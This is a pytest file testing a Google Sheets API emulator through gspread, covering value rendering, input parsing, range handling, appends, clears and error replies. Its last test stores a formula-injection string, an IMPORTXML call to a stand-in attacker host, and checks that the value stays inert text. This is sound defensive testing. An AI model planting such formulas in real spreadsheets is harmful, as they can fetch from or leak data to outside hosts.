"""spreadsheets.values.* through the real gspread client against the emulator."""

from __future__ import annotations

import datetime as dt

import gspread
import pytest
from gspread.utils import ValueInputOption, ValueRenderOption

from kpirules_emulator.sheets import emulator_session

API = "https://sheets.googleapis.com/v4/spreadsheets"


@pytest.fixture
def ws(sheets_emulator, gspread_client, sheet_from_rows):
    sheet_from_rows([["date", "visits", "rate"],
                     [dt.date(2026, 1, 2), 120, 0.25],
                     [dt.date(2026, 1, 3), "=B2*2", None],
                     [],
                     ["total", "=SUM(B2:B3)"]])
    return gspread_client.open_by_key("kpis").worksheet("Data")


def test_values_come_back_like_google_trims_them(ws):
    assert ws.get_all_values() == [["date", "visits", "rate"], ["1/2/2026", "120", "0.25"],
                                   ["1/3/2026", "240", ""], ["", "", ""], ["total", "360", ""]]
    raw = ws.spreadsheet.values_get("Data")
    assert raw["range"] == "Data!A1:Z1000"
    assert raw["values"][2] == ["1/3/2026", "240"]  # trailing empty cell dropped
    assert raw["values"][3] == []  # an empty row inside the data stays, as []


def test_render_options(ws):
    unformatted = ws.get_all_values(value_render_option=ValueRenderOption.unformatted)
    assert unformatted[1] == [46024, 120, 0.25]
    assert unformatted[2][1] == 240 and isinstance(unformatted[2][1], int)
    formulas = ws.get_all_values(value_render_option=ValueRenderOption.formula)
    assert formulas[2][1] == "=B2*2" and formulas[4][1] == "=SUM(B2:B3)"
    as_text = ws.spreadsheet.values_get("Data!A2", params={
        "valueRenderOption": "UNFORMATTED_VALUE", "dateTimeRenderOption": "FORMATTED_STRING"})
    assert as_text["values"] == [["1/2/2026"]]


def test_raw_stores_text_and_user_entered_parses(sheets_emulator, ws):
    ws.update([["=1+1", "2,000,000.01", "2020-01-01", "TRUE", "0042"]], "A10",
              value_input_option=ValueInputOption.raw)
    assert sheets_emulator.cell("kpis", "Data", "A10")["userEnteredValue"] == {
        "stringValue": "=1+1"}
    ws.update([["=1+1", "2,000,000.01", "2020-01-01", "TRUE", "0042"]], "A11",
              value_input_option=ValueInputOption.user_entered)
    row = ws.get("A11:E11", value_render_option=ValueRenderOption.unformatted)[0]
    assert row == [2, 2000000.01, 43831, True, 42]
    assert ws.get("A11:E11")[0] == ["2", "2,000,000.01", "2020-01-01", "TRUE", "42"]
    assert sheets_emulator.cell("kpis", "Data", "C11")["userEnteredFormat"]["numberFormat"] == {
        "type": "DATE", "pattern": "yyyy-mm-dd"}


def test_empty_string_clears_and_null_leaves_alone(sheets_emulator, ws):
    ws.spreadsheet.values_update("Data!A1:C1", params={"valueInputOption": "RAW"},
                                 body={"values": [["", None, "new"]]})
    assert sheets_emulator.values("kpis", "Data")[0] == [None, "visits", "new"]


def test_update_reports_the_written_range(ws):
    reply = ws.spreadsheet.values_update(
        "'Data'!B20", params={"valueInputOption": "RAW", "includeValuesInResponse": "true"},
        body={"values": [[1, 2], [3]]})
    assert reply["updatedRange"] == "Data!B20:C21"
    assert (reply["updatedRows"], reply["updatedColumns"], reply["updatedCells"]) == (2, 2, 3)
    assert reply["updatedData"]["values"] == [["1", "2"], ["3"]]


def test_writing_past_the_requested_range_or_the_grid_is_refused(sheets_emulator, ws):
    before = sheets_emulator.snapshot("kpis")
    with pytest.raises(gspread.exceptions.APIError) as err:
        ws.update([[1, 2, 3]], "A1:B1")
    assert err.value.response.json()["error"]["message"] == (
        "Requested writing within range [Data!A1:B1], but tried writing to column [C]")
    with pytest.raises(gspread.exceptions.APIError) as err:
        ws.update([[1]] * 3, "A999")
    assert err.value.code == 400 and "exceeds grid limits. Max rows: 1000, max columns: 26" \
        in err.value.response.json()["error"]["message"]
    assert sheets_emulator.snapshot("kpis") == before


def test_batch_update_values_is_all_or_nothing(sheets_emulator, ws):
    before = sheets_emulator.snapshot("kpis")
    with pytest.raises(gspread.exceptions.APIError) as err:
        ws.spreadsheet.values_batch_update({"valueInputOption": "RAW", "data": [
            {"range": "Data!A1", "values": [["changed"]]},
            {"range": "Nope!A1", "values": [["x"]]}]})
    assert err.value.response.json()["error"]["message"] == \
        "Invalid data[1]: Unable to parse range: Nope!A1"
    assert sheets_emulator.snapshot("kpis") == before
    reply = ws.batch_update([{"range": "A1", "values": [["changed"]]},
                             {"range": "C5:D5", "values": [[1, 2]]}])
    assert reply["totalUpdatedCells"] == 3 and reply["totalUpdatedSheets"] == 1
    assert [r["updatedRange"] for r in reply["responses"]] == ["Data!A1", "Data!C5:D5"]


def test_batch_get_normalises_ranges(ws):
    reply = ws.spreadsheet.values_batch_get(["Data!A:A", "'Data'!B1:C2", "A1:1", "R1C1:R1C2"])
    assert [vr["range"] for vr in reply["valueRanges"]] == [
        "Data!A1:A1000", "Data!B1:C2", "Data!A1:Z1", "Data!A1:B1"]
    assert reply["valueRanges"][1]["values"] == [["visits", "rate"], ["120", "0.25"]]


def test_major_dimension_columns(ws):
    reply = ws.spreadsheet.values_get("Data!A1:C3", params={"majorDimension": "COLUMNS"})
    assert reply["majorDimension"] == "COLUMNS"
    assert reply["values"] == [["date", "1/2/2026", "1/3/2026"], ["visits", "120", "240"],
                               ["rate", "0.25"]]


def test_append_goes_after_the_last_table(sheets_emulator, ws):
    reply = ws.append_row(["next", 1])
    # The whole-sheet search finds two tables (A1:C3 and A5:B5); the last one wins.
    assert reply["tableRange"] == "Data!A5:B5"
    assert reply["updates"]["updatedRange"] == "Data!A6:B6"
    reply = ws.spreadsheet.values_append("Data!A1", params={"valueInputOption": "RAW"},
                                         body={"values": [["under the first"]]})
    assert reply["tableRange"] == "Data!A1:C3"
    assert sheets_emulator.values("kpis", "Data")[3] == ["under the first"]


def test_append_grows_the_grid_and_insert_rows_shifts(sheets_emulator, sheet_from_rows,
                                                      gspread_client):
    sheet_from_rows([["h"], ["a"], ["b"]], key="small", rows=3, cols=2)
    ws = gspread_client.open_by_key("small").sheet1
    ws.append_rows([["c"], ["d"]])
    assert sheets_emulator.sheet_properties("small", "Data")["gridProperties"]["rowCount"] == 5
    ws.spreadsheet.values_append("Data!A1:A2", params={"valueInputOption": "RAW",
                                                       "insertDataOption": "INSERT_ROWS"},
                                 body={"values": [["inserted"]]})
    assert [r[0] for r in sheets_emulator.values("small", "Data")] == [
        "h", "a", "b", "c", "d", "inserted"]
    with pytest.raises(gspread.exceptions.APIError) as err:
        ws.append_row(["x", "y", "z"])  # columns never grow
    assert "exceeds grid limits" in str(err.value)


def test_clear_and_batch_clear_keep_formats(sheets_emulator, ws):
    ws.format("A1", {"textFormat": {"bold": True}})
    assert ws.spreadsheet.values_clear("Data!A1:B2")["clearedRange"] == "Data!A1:B2"
    cell = sheets_emulator.cell("kpis", "Data", "A1")
    assert "userEnteredValue" not in cell and cell["userEnteredFormat"]["textFormat"]["bold"]
    reply = ws.batch_clear(["C1", "A5:B5"])
    assert reply["clearedRanges"] == ["Data!C1", "Data!A5:B5"]
    # B3 is =B2*2 and B2 was cleared: formulas see the change.
    assert sheets_emulator.values("kpis", "Data") == [[], [None, None, 0.25], [46025, 0]]


def test_bad_range_and_missing_spreadsheet(sheets_emulator, ws, gspread_client):
    session = emulator_session(sheets_emulator.host)
    r = session.get(f"{API}/kpis/values/Nope!A1")
    assert r.status_code == 400
    assert r.json() == {"error": {"code": 400, "message": "Unable to parse range: Nope!A1",
                                  "status": "INVALID_ARGUMENT"}}
    r = session.get(f"{API}/kpis/values/Data!A1001")
    assert r.json()["error"]["message"] == (
        "Range (Data!A1001) exceeds grid limits. Max rows: 1000, max columns: 26")
    with pytest.raises(gspread.SpreadsheetNotFound):
        gspread_client.open_by_key("no-such-key")


def test_sheet_titles_are_quoted_when_they_must_be(sheets_emulator, sheet_from_rows,
                                                   gspread_client):
    sheet_from_rows([[1]], key="q", tab="My data", tabs={"D3": [[2]], "It's": [[3]]})
    sh = gspread_client.open_by_key("q")
    ranges = sh.values_batch_get(["My data!A1", "D3", "'It''s'!A1:B2"])["valueRanges"]
    assert [vr["range"] for vr in ranges] == ["'My data'!A1", "'D3'!A1:Z1000",
                                              "'It''s'!A1:B2"]
    assert [vr["values"] for vr in ranges] == [[["1"]], [["2"]], [["3"]]]


def test_a_text_cell_starting_with_equals_stays_text_when_an_xlsx_is_loaded(tmp_path):
    import openpyxl

    from kpirules_emulator.sheets import SheetsEmulator

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Data"
    ws["A1"] = "campaign"
    ws["A2"] = '=IMPORTXML("http://evil.example/x","//a")'
    ws["A2"].data_type = "s"  # typed as text, as kpirules writes campaign names
    ws["A3"] = "=1+2"  # a real formula
    path = tmp_path / "book.xlsx"
    wb.save(path)
    with SheetsEmulator() as emu:
        emu.add_spreadsheet_from_xlsx(path, key="book")
        assert emu.cell("book", "Data", "A2")["userEnteredValue"] == {
            "stringValue": '=IMPORTXML("http://evil.example/x","//a")'}
        assert emu.cell("book", "Data", "A3")["userEnteredValue"] == {"formulaValue": "=1+2"}
